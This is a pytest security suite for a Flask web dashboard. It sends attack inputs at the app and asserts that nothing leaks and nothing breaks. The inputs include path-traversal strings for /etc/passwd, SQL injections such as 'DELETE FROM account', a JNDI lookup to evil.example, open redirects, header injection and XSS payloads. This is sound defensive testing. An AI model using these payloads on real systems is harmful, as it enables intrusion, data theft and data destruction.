"""Addresses as nobody's browser writes them: no part of one is a path, a statement, markup or another's name."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from urllib.parse import quote, urlencode

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient

from tests.access.hidden import PARTS, filled, made_world, read_at, tells
from tests.dashboard.sight_store import World, marks


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = made_world(tmp_path_factory.mktemp("asked"))
    yield made
    made.store.close()


def share(reasons: Mapping[str, object], reason: str) -> list[tuple[str, str]]:
    """A quarter of all parts of all addresses, another one for each reason: each part is tried in several ways."""
    return PARTS[[*reasons].index(reason) % 4 :: 4]


def test_whoever_may_sees_it(world: World) -> None:
    """Else none of what follows would show anything."""
    assert len(tells(world.clients["secretariat of alfa"].get("/alliance/alfa"))) == 4
    found = [world.clients["administrator"].get(filled(rule)).status_code for rule in read_at()]
    assert found.count(200) > 40
    assert len(PARTS) > 60


TRAVERSALS = {
    "up": "../../../../etc/passwd",
    "up, coded": "..%2f..%2f..%2fetc%2fpasswd",
    "up, coded twice": "..%252f..%252fetc%252fpasswd",
    "with the other slash": "..\\..\\windows\\win.ini",
    "from the root": "%2fetc%2fpasswd",
    "cut off by a null": "style.css%00.png",
    "an overlong slash": "..%c0%af..%c0%afetc%c0%afpasswd",
    "a scheme": "file:%2f%2f%2fetc%2fpasswd",
    "our own secret": "..%2fsecret",
    "our own store": "..%2ffremdrift.db",
    "a program of ours": "..%2f..%2fconfig%2fsecret.py",
}


@pytest.mark.parametrize("reason", TRAVERSALS)
def test_no_name_in_an_address_is_a_path(world: World, reason: str) -> None:
    """In every part of an address, by whoever may do everything."""
    for rule, part in share(TRAVERSALS, reason):
        answer = world.clients["administrator"].get(filled(rule, **{part: TRAVERSALS[reason]}))
        content = answer.get_data()
        assert answer.status_code < 500, (rule, part)
        assert b"root:" not in content
        assert b"SQLite format" not in content
        assert b"installation_secret" not in content
        answer.close()


ASKED = (
    "q",
    "verdict",
    "figures",
    "area",
    "organisation",
    "indicator",
    "alliance",
    "from",
    "to",
    "paper",
    "saved",
    "next",
    "known",
    "point",
    "map",
    "multiples",
    "said",
    "target",
    "deadline",
    "baseline",
    "which",
    "run",
    "who",
    "action",
    "format",
    "language",
    "before",
    "after",
    "code",
    "state",
    "error",
    "answer",
    "day",
    "days",
    "page",
    "failed",
    "v",
)
INJECTED = {
    "true for all": "' OR '1'='1",
    "more statements": "x'; DELETE FROM account; --",
    "another table": "x' UNION SELECT name FROM account --",
    "a comment": 'x"/*',
    "numbers": "1 OR 1=1",
    "anything": "%",
    "one letter": "_",
    "a long wait": "1; SELECT pg_sleep(9)",
    "a backslash": "\\' OR 1=1 --",
    "a format": "{0.__class__.__mro__}%s%n",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "no letter": "\udcff",
}
WIDE = (
    "/",
    "/en",
    "/alliance/beta",
    "/alliance/beta/deliveries",
    f"/alliance/beta/{marks('beta', 2).code}",
    "/runs",
    "/alliance/beta/meeting",
    "/api/v1/figures",
    "/api/v1/alliances/beta/deliveries.csv",
    "/sign-in",
    "/judge",
    f"/alliance/beta/{marks('beta', 2).code}.svg",
    "/sign-in/oidc/back",
)


@pytest.mark.parametrize("reason", INJECTED)
def test_no_question_is_a_statement(world: World, reason: str) -> None:
    """In every question that any address knows, all at once and on each address; and in every name."""
    client, value = world.clients["public"], INJECTED[reason]
    query = urlencode(dict.fromkeys(ASKED, value), errors="surrogateescape")
    paths = [f"{path}?{query}" for path in WIDE]
    paths += [
        filled(rule, **{part: quote(value, safe="", errors="surrogateescape")})
        for rule, part in share(INJECTED, reason)
    ]
    for path in paths:
        answer = client.get(path)
        assert answer.status_code < 500, path
        assert tells(answer) == [], path
        assert "49" not in answer.get_data(as_text=True) or "template" not in reason or "7*7" not in path
        answer.close()
    with world.store.reading() as connection:
        assert connection.execute(sa.text("SELECT count(*) FROM account")).scalar_one() > 0


LIKE = {
    "capitals": "ALFA",
    "a Greek letter": "\u03b1lfa",
    "a Cyrillic letter": "\u0430lf\u0430",
    "wide letters": "\uff41\uff4c\uff46\uff41",
    "an invisible sign": "al\u200bfa",
    "the other direction": "\u202ealfa",
    "a blank behind it": "alfa ",
    "a dot behind it": "alfa.",
    "a null behind it": "alfa\0",
    "a new line": "alfa\n",
    "an accent of its own": "alf\u0061\u0301",
    "a slash, coded": "alfa/",
    "as a pattern": "alf%",
    "one sign for any": "alf_",
    "a list": "alfa,beta",
    "with its own code": "%61lfa",
}


@pytest.mark.parametrize("reason", LIKE)
def test_what_only_looks_like_a_name_is_none(world: World, reason: str) -> None:
    for path in ("/alliance/{}", "/api/v1/alliances/{}", "/alliance/{}/deliveries", "/template/{}/partner.xlsx"):
        for reader in ("public", "secretariat of beta"):
            answer = world.clients[reader].get(path.format(quote(LIKE[reason], safe="")))
            assert answer.status_code in (303, 308, 400, 401, 404), (path, answer.status_code)
            assert tells(answer) == []


LED = [
    "//evil.example/",
    "/\\evil.example/",
    "/%2f%2fevil.example/",
    "/%5cevil.example/",
    "/en//evil.example/",
    "///evil.example",
    "/upload//evil.example/",
    "/alliance/beta%0d%0aX-Planted:%201/",
    "/method/?next=//evil.example",
    "/.evil.example/",
    "/sign-in?next=//evil.example",
    "/upload?next=https://evil.example",
    "/alliance/beta/?a=%0d%0aX-Planted:%201",
    "/api/v1/alliances/%0d%0aX-Planted:%201",
    "/http://evil.example/",
    "/method/?%0d%0aX-Planted: 1",
    "/en/method/#//evil.example",
    "/deliver/l-x%0aX-Planted:1/",
    "/@evil.example/",
    "/%09/evil.example/",
]


@pytest.mark.parametrize("path", LED)
def test_no_address_leads_to_another_site_or_writes_a_header(world: World, path: str) -> None:
    for reader in ("public", "administrator"):
        answer = world.clients[reader].get(path)
        onward = answer.headers.get("Location", "/")
        assert onward.startswith("/"), onward
        assert not onward.startswith(("//", "/\\")), onward
        assert "X-Planted" not in answer.headers


def numbers(client: FlaskClient, path: str) -> set[int]:
    return {
        client.get(path.format(one)).status_code for one in ("1", "2", "0", "-1", "01", "1.0", "1e3", "9" * 30, "x")
    }


def test_nothing_is_found_by_counting(world: World) -> None:
    """What is numbered in the store has a name outside that nobody guesses; else it is asked whose it is."""
    for reader in ("public", "secretariat of beta"):
        client = world.clients[reader]
        expected = {303, 404} if reader == "public" else {404}
        for path in ("/upload/{}", "/alliance/alfa/minutes/{}", "/deliver/{}", "/invite/{}", "/reset/{}", "/first/{}"):
            assert numbers(client, path) <= expected, path
        assert numbers(client, "/api/v1/submissions/{}") == ({401} if reader == "public" else {404})
    one, other = (world.clients["secretariat of beta"].post(f"/account/tokens/{n}/withdraw") for n in (1, 999_999))
    assert (one.status_code, one.headers["Location"]) == (other.status_code, other.headers["Location"])


@pytest.mark.parametrize(
    "path",
    [
        "/<script>alert(1)</script>",
        "/alliance/<img src=x onerror=alert(1)>",
        '/sign-in?next=/"><script>alert(1)</script>',
        "/?q=<svg onload=alert(1)>",
        "/api/v1/alliances/<script>",
        '/upload?alliance="><script>',
    ],
)
def test_what_was_asked_is_not_shown_as_markup(world: World, path: str) -> None:
    for reader in ("public", "administrator"):
        answer = world.clients[reader].get(path)
        text = answer.get_data(as_text=True)
        if answer.mimetype == "text/html":
            assert "alert(1)<" not in text.replace("&lt;", "")
            assert "<img src=x" not in text
            assert "<svg onload" not in text
            assert '"><script>' not in text
